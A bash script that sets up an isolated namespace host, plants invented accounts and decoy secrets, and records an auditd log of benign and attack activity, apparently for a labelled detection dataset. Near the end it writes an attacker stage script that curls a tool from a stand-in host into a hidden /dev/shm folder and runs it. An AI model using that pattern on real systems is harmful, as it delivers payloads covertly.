#!/usr/bin/env bash
# Records a real auditd log of benign administration and of attacks, all in a throw-away host: folders of their own are
# bound over the usual ones in a private mount namespace, with networks, names and processes of their own.
#
#   record.sh            record (some five minutes), then write auditd.log.gz and truth.tsv beside this script
#   record.sh FOLDER     the same into another folder
#
# Needs root, a Linux kernel with audit and overlayfs, Debian 12's packages auditd, curl, gcc, openssh-client, passwd,
# python3, strace and util-linux, and apt-get: sudo, cron, sshd and kmod are downloaded and unpacked for the throw-away host
# only, nothing is installed. Refuses while an auditd or any audit rule is active. Puts the kernel's audit settings back at
# the end, also when interrupted. One thing cannot be put back: once audit was on, the kernel gives every new process an
# audit context until the next boot, which makes each system call some 0.2 microseconds slower. `auditctl -a never,task`
# spares new processes that; this script leaves such a rule as it finds it.
set -euo pipefail

here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
host=worker-rec-1
crontab_gid=101
minutes_max=12 # A recording that takes longer hangs.
packages=(sudo cron cron-daemon-common openssh-server libwrap0 kmod libkmod2)
# What the throw-away host has of this one's /etc: nothing that tells of this machine.
etc=(alternatives bash.bashrc debconf.conf debian_version default deluser.conf environment host.conf issue ld.so.conf
  ld.so.conf.d libaudit.conf login.defs magic nsswitch.conf os-release pam.conf pam.d profile protocols security services
  shells skel sysctl.conf)
# Folders of its own. /srv and below hold what it serves; the empty ones hide what is here.
own=(etc home root run srv tmp var/backups var/log var/spool var/tmp mnt media opt)

die() { printf 'record.sh: %s\n' "$*" >&2; exit 1; }

status() { auditctl -s | awk -v key="$1" '$1 == key { print $2 }'; }

outside() {
  [ "$(id -u)" = 0 ] || die "needs root"
  local tool out
  out=$(cd "${1:-$here}" && pwd)
  for tool in auditctl auditd apt-get curl dpkg gcc ip python3 ssh ssh-keygen strace unshare useradd; do
    command -v "$tool" >/dev/null || die "$tool is missing"
  done
  [ "$(status pid)" = 0 ] || die "an auditd is running"
  before=$(auditctl -l)
  case $before in "No rules" | "-a never,task") ;; *) die "there are audit rules" ;; esac
  [ "$(cat /proc/self/loginuid)" = 4294967295 ] || die "needs a shell without a login uid, so that only the recording has one"

  work=$(mktemp -d)
  enabled=$(status enabled) failure=$(status failure) backlog=$(status backlog_limit) child=
  trap clean EXIT
  trap 'exit 1' INT TERM
  mkdir "$work/debs" "$work/extra" "$work/rig"
  (cd "$work/debs" && apt-get -qq download "${packages[@]}" 2>/dev/null) || die "apt-get cannot download ${packages[*]}"
  for deb in "$work"/debs/*.deb; do dpkg -x "$deb" "$work/extra"; done
  local folder
  # On the host they are laid over, /bin is /usr/bin, and so on.
  for folder in bin sbin lib; do
    mkdir -p "$work/extra/usr/$folder"
    if [ -d "$work/extra/$folder" ]; then cp -a "$work/extra/$folder/." "$work/extra/usr/$folder/"; fi
  done
  # What cron's installation would do: only crontab may touch the spool.
  chgrp "$crontab_gid" "$work/extra/usr/bin/crontab"
  chmod 2755 "$work/extra/usr/bin/crontab"
  cp -r "$here/record.sh" "$here/session.py" "$here/audit.rules" "$here/auditd.conf" "$here/sessions" "$work/rig/"
  for folder in "${own[@]}"; do mkdir -p "$work/$folder"; done
  chmod 1777 "$work/tmp" "$work/var/tmp"
  chmod 700 "$work/root"
  chmod 755 "$work"
  # The rig's own place is not the host's: it is bound to a name that nobody on the host looks at.
  mkdir -m 700 "$work/run/rig"
  cp -r "$work/rig/." "$work/run/rig/"
  local name
  for name in "${etc[@]}"; do if [ -e "/etc/$name" ]; then cp -a "/etc/$name" "$work/etc/"; fi; done
  cp -an "$work/extra/etc/." "$work/etc/"

  unshare --mount --net --uts --ipc bash "$work/rig/record.sh" --inside "$work" &
  child=$!
  wait "$child" || die "the recording failed"
  child=
  local pid
  pid=$(cat "$work/run/auditd.pid")
  stop "$pid"
  python3 "$here/label.py" "$work/var/log/audit/audit.log" "$work/run/rig/windows.tsv" >"$out/truth.tsv"
  gzip -9n <"$work/var/log/audit/audit.log" >"$out/auditd.log.gz"
}

# Ends a process that this script started, and waits until it has gone.
stop() {
  kill "$1" 2>/dev/null || return 0
  for _ in $(seq 100); do kill -0 "$1" 2>/dev/null || return 0; sleep 0.1; done
  kill -KILL "$1" 2>/dev/null || true
}

clean() {
  if [ -n "$child" ]; then stop "$child"; fi
  if [ -f "$work/run/auditd.pid" ]; then stop "$(cat "$work/run/auditd.pid")"; fi
  auditctl -D >/dev/null
  if [ "$before" != "No rules" ]; then auditctl -a never,task >/dev/null; fi
  auditctl -e "$enabled" -f "$failure" -b "$backlog" >/dev/null
  # The namespace has gone with its last process, and with it what was bound over the folders.
  rm -rf --one-file-system "$work"
}

# In namespaces of its own for mounts, network and names; processes are still the machine's, since auditd must be.
inside() {
  local work=$1 folder
  hostname "$host"
  mount -t overlay -o "lowerdir=$work/extra/usr:/usr" overlay /usr
  mount -o remount,bind,ro /sys
  for folder in /*; do
    case $folder in
      /bin | /boot | /dev | /etc | /home | /lib* | /media | /mnt | /opt | /proc | /root | /run | /sbin | /srv | /sys | /tmp | /usr | /var) ;;
      *) if [ -d "$folder" ] && [ ! -L "$folder" ]; then mount -t tmpfs -o size=64k,mode=755 none "$folder"; fi ;;
    esac
  done
  mount -t tmpfs -o size=16m,mode=1777 shm /dev/shm
  mount -t devpts -o newinstance,ptmxmode=0666,mode=620,gid=5 devpts /dev/pts
  mount --bind /dev/pts/ptmx /dev/ptmx
  # /tmp comes last, since the others lie below it.
  for folder in "${own[@]}"; do if [ "$folder" != tmp ]; then mount --bind "$work/$folder" "/$folder"; fi; done
  mount --bind "$work/tmp" /tmp
  cd /run/rig

  ip link set lo up
  local address
  for address in 10.20.0.5 10.20.3.{11,12,20} 203.0.113.{66..77}; do ip address add "$address/32" dev lo; done
  furnish
  # auditd goes to the background by itself once it is ready. It turns audit on.
  auditd -c /etc/audit
  # The rules are loaded by somebody, as it is on a host.
  bash -c 'echo 4242 >/proc/self/loginuid; exec auditctl -R /run/rig/audit.rules' >/dev/null
  # Ends with its first process, so that nothing outlives the recording.
  timeout -k 5 "${minutes_max}m" unshare --pid --fork --kill-child --mount-proc python3 /run/rig/session.py \
    /run/rig/sessions /run/rig/windows.tsv &
  local session=$!
  trap 'kill "$session"; wait "$session"; exit 1' INT TERM
  wait "$session"
}

# Accounts, files and services of the throw-away host. All names and secrets are invented, and there are no others.
furnish() {
  mkdir -p /etc/{audit,cron.d,cron.daily,ssh,sudoers.d,systemd/system/multi-user.target.wants} /run/{sshd,sudo,lock} \
    /var/log/audit /var/spool/cron/crontabs /srv/app /srv/www
  chmod 1730 /var/spool/cron/crontabs
  install -m 640 auditd.conf /etc/audit/auditd.conf
  awk -F: '$3 < 1000 || $3 == 65534' /usr/share/base-passwd/passwd.master >/etc/passwd
  cp /usr/share/base-passwd/group.master /etc/group
  sed 's/:\*:/:x:/' -i /etc/passwd
  pwconv
  grpconv
  groupadd -g "$crontab_gid" crontab
  chgrp crontab /var/spool/cron/crontabs
  useradd -r -M -d /run/sshd -s /usr/sbin/nologin sshd
  local user n=4242
  for user in ana bruno deploy intern; do
    useradd -m -u "$n" -s /bin/bash "$user"
    n=$((n + 1))
  done
  chmod 755 /home/*
  chpasswd <<'PASSWORDS'
ana:Slate.Meadow.41
bruno:Copper.Lantern.08
deploy:Violet.Anchor.73
intern:Summer2026
PASSWORDS
  cat >/etc/sudoers <<'SUDOERS'
Defaults secure_path="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"
root ALL=(ALL:ALL) ALL
ana ALL=(ALL:ALL) NOPASSWD: ALL
deploy ALL=(ALL:ALL) NOPASSWD: ALL
bruno ALL=(ALL:ALL) ALL
@includedir /etc/sudoers.d
SUDOERS
  chmod 440 /etc/sudoers
  cat >>/etc/bash.bashrc <<'PROMPT'
PS1='\u@\h:\w\$ '
set +o histexpand
PROMPT
  echo "$host" >/etc/hostname
  printf '127.0.0.1 localhost\n10.20.0.5 %s\n' "$host" >/etc/hosts
  printf 'SHELL=/bin/sh\nPATH=/usr/sbin:/usr/bin:/sbin:/bin\n' >/etc/crontab
  rm -f /etc/cron.d/* /etc/cron.daily/*
  printf '#MaxAuthTries 6\nPort 22\nKbdInteractiveAuthentication no\nUsePAM yes\nPrintMotd no\nPermitRootLogin no\n' >/etc/ssh/sshd_config
  ssh-keygen -q -A
  ssh-keygen -q -t ed25519 -N '' -C rig -f /run/rig/key
  for user in ana bruno deploy; do
    install -d -m 700 -o "$user" -g "$user" "/home/$user/.ssh" "/home/$user/.kube" "/home/$user/.cache"
    install -m 600 -o "$user" -g "$user" /run/rig/key.pub "/home/$user/.ssh/authorized_keys"
    printf 'ls\ncd releases\n' >"/home/$user/.bash_history"
    chown "$user:$user" "/home/$user/.bash_history"
  done
  ssh-keygen -q -t ed25519 -N '' -C ana -f /home/ana/.ssh/id_ed25519
  chown ana:ana /home/ana/.ssh/*
  printf 'users:\n- user: {token: invented}\n' >/home/deploy/.kube/config
  printf 'DB_PASSWORD=invented\n' >/srv/app/.env
  touch /run/utmp
  local log
  for log in auth syslog kern daemon app; do printf 'a line\nand one of 203.0.113.1\n' >"/var/log/$log.log"; done
  mv /var/log/syslog.log /var/log/syslog
  touch /var/log/{wtmp,btmp,lastlog} /var/log/audit/audit.log.1

  # What is served: a release, and an attacker's stage and tool.
  mkdir -p /srv/www/app
  printf '#!/bin/sh\necho serve 42\n' >/srv/www/app/serve
  printf '[Service]\nExecStart=/usr/local/bin/serve\n' >/srv/www/app/app.service
  chmod 755 /srv/www/app/serve
  tar -C /srv/www -czf /srv/www/app.tgz app
  cp /usr/bin/sleep /srv/www/tool
  cat >/srv/www/i.sh <<'STAGE'
D=/dev/shm/.cache
mkdir -p $D
curl -fsSo $D/kw http://203.0.113.66:8000/tool
chmod 755 $D/kw
nproc
$D/kw 2
rm -rf $D
STAGE
}

case ${1:-} in
  --inside) inside "$2" ;;
  *) outside "$@" ;;
esac
